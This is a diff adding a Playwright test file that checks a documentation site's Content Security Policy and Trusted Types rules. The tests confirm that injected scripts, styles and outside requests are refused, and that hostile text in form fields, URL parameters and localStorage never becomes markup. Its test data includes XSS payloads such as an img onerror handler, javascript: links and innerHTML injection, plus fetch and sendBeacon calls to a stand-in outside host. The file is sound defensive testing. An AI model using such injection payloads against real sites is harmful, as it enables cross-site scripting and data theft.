@@ -1,0 +1,239 @@
+"""The pages' policy in Chromium: what it refuses, what works under it, and that text stays text."""
+
+import functools
+import json
+import re
+import threading
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from test_pages import noise_of
+
+STATIC = Path(__file__).parents[2] / "docs" / "_static"
+ELSEWHERE = "https://example.org"
+
+# What somebody might slip into a page, and what refuses it. A text that a script of the page would
+# turn into markup, or into the address of a script, is refused as such, whatever it holds.
+MARKUP = "require-trusted-types-for"
+ATTEMPTS = [
+    ("document.head.append(make('script', {textContent: 'hacked = 1'}))", MARKUP),
+    ("document.body.setAttribute('onclick', 'hacked = 1')", MARKUP),
+    ("document.body.innerHTML = '<img src=x onerror=\"hacked = 1\">'", MARKUP),
+    ("document.body.innerHTML = '<button class=copybtn onclick=\"hacked = 1\">'", MARKUP),
+    (f"make('script', {{src: '{ELSEWHERE}/a.js'}})", MARKUP),
+    ("eval('hacked = 1')", MARKUP),
+    ("document.body.append(make('a', {href: 'javascript:hacked=1'})), click()", "script-src-elem"),
+    ("trustedTypes.createPolicy('another', {})", "trusted-types"),
+    ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
+    ("document.head.append(make('style', {textContent: 'body { color: red }'}))", "style-src-elem"),
+    (
+        f"document.head.append(make('link', {{rel: 'stylesheet', href: '{ELSEWHERE}/a.css'}}))",
+        "style-src-elem",
+    ),
+    (f"make('img', {{src: '{ELSEWHERE}/a.png'}})", "img-src"),
+    (f"fetch('{ELSEWHERE}')", "connect-src"),
+    (f"navigator.sendBeacon('{ELSEWHERE}', 'text')", "connect-src"),
+    (f"document.body.append(make('iframe', {{src: '{ELSEWHERE}'}}))", "frame-src"),
+    (f"document.head.append(make('base', {{href: '{ELSEWHERE}'}}))", "base-uri"),
+    (
+        f"document.body.append(make('form', {{action: '{ELSEWHERE}'}})), "
+        "document.body.lastChild.submit()",
+        "form-action",
+    ),
+]
+# From a timer: the browser itself admits what a debugger evaluates.
+TRY = """attempt => new Promise(end => {
+    const make = (tag, about) => Object.assign(document.createElement(tag), about);
+    const click = () => document.body.lastChild.click();
+    const refused = [];
+    document.addEventListener("securitypolicyviolation", event => {
+        refused.push(event.effectiveDirective);
+    });
+    setTimeout(async () => {
+        try { await (ATTEMPT); } catch {}
+        for (let i = 0; i < 20 && !refused.length; i++) await new Promise(requestAnimationFrame);
+        end([refused[0], typeof hacked]);
+    });
+})"""
+
+
+def test_a_script_a_style_or_an_address_that_is_slipped_in_is_refused(page, site):
+    found = []
+    for attempt, _ in ATTEMPTS:
+        page.goto((site / "search.html").as_uri())
+        found.append((attempt, *page.evaluate(TRY.replace("ATTEMPT", attempt))))
+    assert found == [(*attempt, "undefined") for attempt in ATTEMPTS]
+
+
+# -- Text stays text -------------------------------------------------------------------------------
+
+HOSTILE = """"'><img src=x onerror="hacked=1"><b id=slipped>${hacked=1}</b>"""
+SLIPPED = "[document.querySelectorAll('#slipped, img[src=x]').length, typeof hacked]"
+FIELDS = "input:is([type=text], [type=search], :not([type])), textarea"
+TYPE = """(fields, text) => {
+    for (const field of fields) {
+        field.value = text;
+        for (const type of ["input", "change"]) {
+            field.dispatchEvent(new Event(type, {bubbles: true}));
+        }
+        field.form?.requestSubmit();
+    }
+    return fields.length;
+}"""
+
+
+def show_all(page):
+    """Open what is folded, and bring each live part of the page near, so that it is made."""
+    page.evaluate("document.querySelectorAll('details').forEach(box => { box.open = true })")
+    for part in page.locator("[data-play]").all():
+        part.scroll_into_view_if_needed()
+        part.locator(".play-part").wait_for()
+
+
+@pytest.mark.parametrize(
+    ("name", "at_least"),
+    [
+        ("learn/gru.html", 6),
+        ("learn/look-inside.html", 5),
+        ("learn/sampling.html", 6),
+        ("playground.html", 10),
+        ("shapes.html", 6),
+    ],
+)
+def test_what_a_reader_types_stays_text(name, at_least, page, site):
+    noise = noise_of(page)
+    page.goto((site / name).as_uri())
+    show_all(page)
+    if name == "learn/look-inside.html":
+        page.get_by_role("button", name="Load the network").click()
+        page.locator("article textarea").wait_for()
+    fields = page.locator(f"article :is({FIELDS})")
+    fields.nth(at_least - 1).wait_for(state="attached")
+    fields.evaluate_all(TYPE, HOSTILE)
+    page.evaluate("new Promise(requestAnimationFrame)")
+    assert page.evaluate(SLIPPED) == [0, "undefined"]
+    assert noise == []
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "search.html?q={}&highlight={}",
+        "index.html?highlight={}",
+        "playground.html#text={}&cell={}&epoch={}&epochs={}",
+        "learn/look-inside.html#look={}&at={}&text={}",
+        "learn/look-inside.html#look=108&at=5&text={}",
+        "learn/gru.html#{}",
+    ],
+)
+def test_what_an_address_says_stays_text(address, page, site):
+    noise = noise_of(page)
+    page.goto(f"{site.as_uri()}/{address.replace('{}', HOSTILE)}")
+    show_all(page)
+    assert page.evaluate(SLIPPED) == [0, "undefined"]
+    assert noise == []
+
+
+KEYS = {
+    key
+    for path in STATIC.rglob("*.js")
+    for key in re.findall(r"(?:Stored|getItem)\(\s*\"([\w-]+)\"", path.read_text("utf-8"))
+} | {"sphinx_highlight_terms"}
+
+
+@pytest.mark.parametrize(
+    "kept",
+    [
+        HOSTILE,
+        json.dumps({HOSTILE: {"solved": True, "misses": HOSTILE, "last": 1}, "met": [HOSTILE]}),
+    ],
+    ids=["no JSON", "object"],
+)
+def test_what_the_browser_has_kept_stays_text(kept, page, site):
+    assert len(KEYS) > 3
+    noise = noise_of(page)
+    page.goto((site / "search.html").as_uri())
+    for key in KEYS:
+        page.evaluate("([key, kept]) => localStorage.setItem(key, kept)", [key, kept])
+    for name in ("index.html", "learn/gru.html", "playground.html"):
+        page.goto((site / name).as_uri())
+        show_all(page)
+        assert page.evaluate(SLIPPED) == [0, "undefined"]
+        assert page.evaluate("document.body.dataset.theme") == "auto"
+    assert noise == []
+
+
+# -- Over HTTP -------------------------------------------------------------------------------------
+
+# One page of each kind.
+KINDS = (
+    *("index.html", "before/pytorch.html", "learn/gru.html", "fix/unknown-character.html"),
+    *("questions/index.html", "gallery/index.html", "gallery/cell/two_biases.html"),
+    *("api/text.html", "equations.html", "exercises.html", "genindex.html", "py-modindex.html"),
+    *("search.html?q=gate", "playground.html", "shapes.html"),
+)
+
+
+class Quiet(SimpleHTTPRequestHandler):
+    def log_message(self, *_):
+        pass
+
+
+@pytest.fixture(scope="module")
+def address(site):
+    """Address of a server of the site. Files are the only thing that it knows."""
+    handler = functools.partial(Quiet, directory=site)
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}/"
+        server.shutdown()
+        thread.join()
+
+
+def test_a_page_of_each_kind_works_over_http_under_the_policy(page, address):
+    noise = noise_of(page)
+    for name in KINDS:
+        page.goto(address + name)
+        show_all(page)
+        page.locator(".content-icon-container .theme-toggle").click()
+        assert page.evaluate("document.body.dataset.theme") != "auto"
+        page.evaluate("localStorage.clear()")
+        noise[:] = [text for text in noise if not text.startswith(f"asks for {address}")]
+        assert (name, noise) == (name, [])
+
+
+def test_over_http_the_parts_of_pages_work_under_the_policy(page, address):
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page.goto(f"{address}search.html?q=vocabulary")
+    page.locator("#search-results li a").first.wait_for()
+    page.goto(f"{address}learn/gru.html")
+    cell = page.locator("div.cell_input:visible").first
+    cell.hover()
+    cell.locator(".copybtn").click()
+    page.wait_for_function("document.querySelector('.copybtn.success svg') !== null")
+    assert (
+        page.evaluate("navigator.clipboard.readText()") == cell.locator("pre").inner_text().strip()
+    )
+    form = page.locator(".question form").first
+    form.get_by_role("textbox").fill("5")
+    form.get_by_role("button", name="Check").click()
+    assert form.locator(".question-reply").inner_text()
+    page.goto(f"{address}playground.html#epochs=3")
+    page.locator(".play-train .play-strip").wait_for()
+
+
+def test_a_page_that_the_reader_has_made_dark_is_dark_before_anything_is_drawn(page, site):
+    page.goto((site / "search.html").as_uri())
+    page.evaluate("localStorage.setItem('theme', 'dark')")
+    # The first style that a page has, from its first line on.
+    page.add_init_script(
+        """new MutationObserver((_, observer) => {
+            if (!document.querySelector(".page")) return;
+            window.firstTheme = document.body.dataset.theme;
+            observer.disconnect();
+        }).observe(document, {childList: true, subtree: true})"""
+    )
+    page.goto((site / "learn/gru.html").as_uri())
+    assert page.evaluate("window.firstTheme") == "dark"
